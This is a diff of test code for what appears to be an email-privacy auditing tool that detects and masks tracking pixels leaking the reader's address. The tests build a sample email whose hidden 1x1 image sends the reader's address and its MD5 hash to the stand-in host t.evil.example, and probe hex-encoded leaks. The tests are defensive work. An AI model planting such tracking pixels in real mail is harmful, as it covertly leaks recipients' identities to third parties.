@@ -10,6 +10,7 @@ import { ADDRESS_MASK, maskAddresses } from '../src/engine/mask-addresses.js';
 import { redactUrl } from '../src/engine/redact.js';
 import { AddressFinder } from '../src/url/address-leak.js';
 import { safeJson, visible } from '../src/formatters/safe-text.js';
+import type { MessageResult } from '../src/types.js';
 
 // The recipient in every header the detector reads it from, and --me.
 const TO = 'Reader+News@Example.org';
@@ -242,6 +243,7 @@ describe.skipIf(!HAS_DOVECOT)('redaction over IMAP, and the cache', () => {
       }
     }
     await seed(d.port, USER, 'INBOX', [{ raw: leakyMessage() }]);
+    await seed(d.port, USER, 'Lists', [{ raw: listMessage(USER) }]);
     port = d.port;
   }, 60_000);
   afterAll(async () => d?.stop());
@@ -266,7 +268,39 @@ describe.skipIf(!HAS_DOVECOT)('redaction over IMAP, and the cache', () => {
     expect(stored).toEqual(JSON.parse(fetched.stdout));
     expect(JSON.parse(again.stdout)).toEqual(stored);
   });
+
+  it('an addr-spec login is one of the reader\'s addresses: masked in list mail, and its leak counted', async () => {
+    const args = ['imap', '--host', '127.0.0.1', '--port', String(port), '--tls', 'none', '--user', USER, '--mailbox', 'Lists', '--no-cache', '-f', 'jsonl'];
+    const env = { PIXELAUDIT_IMAP_PASSWORD: 'testpass' };
+    const shown = await run(args, { env });
+    expect(shown.exitCode).toBe(0);
+    expect(shown.stdout.toLowerCase()).not.toContain(USER);
+    expect(shown.stdout.toLowerCase()).not.toContain(hash('md5', USER));
+    const [result] = shown.stdout.trim().split('\n').map((l) => JSON.parse(l) as MessageResult);
+    expect(result.findings.map((f) => f.ruleId)).toContain('PA003');
+    // --no-redact shows what was masked, so the mask above is the login's doing, not a blanket cut.
+    const plain = await run([...args, '--no-redact'], { env });
+    expect(plain.stdout.toLowerCase()).toContain(`e=${USER}`);
+  });
 });
+
+// List or Bcc mail: the reader is in no To, Cc or Delivered-To; only the login says who reads.
+function listMessage(reader: string): Buffer {
+  const md5 = hash('md5', reader);
+  return Buffer.from(
+    [
+      'From: Weekly <news@lists.example>',
+      'To: Subscribers <subscribers@lists.example>',
+      'Subject: This week',
+      'Message-ID: <list-1@lists.example>',
+      'MIME-Version: 1.0',
+      'Content-Type: text/html; charset=utf-8',
+      '',
+      `<p>Hello</p><img src="https://t.evil.example/o.gif?e=${reader}&amp;h=${md5}" width="1" height="1">`,
+      '',
+    ].join('\r\n'),
+  );
+}
 
 describe('maskAddresses', () => {
   const finder = new AddressFinder([TO, ME]);
@@ -324,6 +358,24 @@ describe('maskAddresses', () => {
     expect(redactUrl(`https://t.example/o?bra=${b}0KMzk1NDExNDMyMTA3&email=${TO}@hotmail.com%26u=1`, finder)).toBe(
       `https://t.example/o?bra=${ADDRESS_MASK}0KMz…&email=${ADDRESS_MASK}@hotmail.com%26u=1`,
     );
+  });
+
+  // The nine names that used to launder any value (attack14): none may keep a token or the address.
+  const INNOCUOUS = ['_', 'cb', 'h', 'height', 'size', 'utm_content', 'v', 'w', 'width'];
+  it.each(INNOCUOUS)('under ?%s= a 32-character token is cut and the address in hex is masked', (name) => {
+    const token = 'F9fCAJ81jBg9b4GbfF5kF14f6GbhGCb1';
+    expect(redactUrl(`https://t.evil.example/o.gif?${name}=${token}`, finder)).toBe(`https://t.evil.example/o.gif?${name}=F9fC…`);
+    const hex = Buffer.from(TO.toLowerCase()).toString('hex');
+    for (const form of [hex, hex.toUpperCase()]) {
+      const out = redactUrl(`https://t.evil.example/o.gif?${name}=${form}&w=1`, finder);
+      expect(out).toBe(`https://t.evil.example/o.gif?${name}=${ADDRESS_MASK}&w=1`);
+    }
+  });
+
+  it('the address in hex is found as a leak, and masked inside other text', () => {
+    const hex = Buffer.from(TO.toLowerCase()).toString('hex');
+    expect(finder.find(`https://t.example/p?w=${hex}`).map((l) => l.encoding)).toEqual(['hex']);
+    expect(maskAddresses(`id ${hex.toUpperCase()} end`, finder)).toBe(`id ${ADDRESS_MASK} end`);
   });
 
   it('keeps what is around the address, and leaves other text alone', () => {
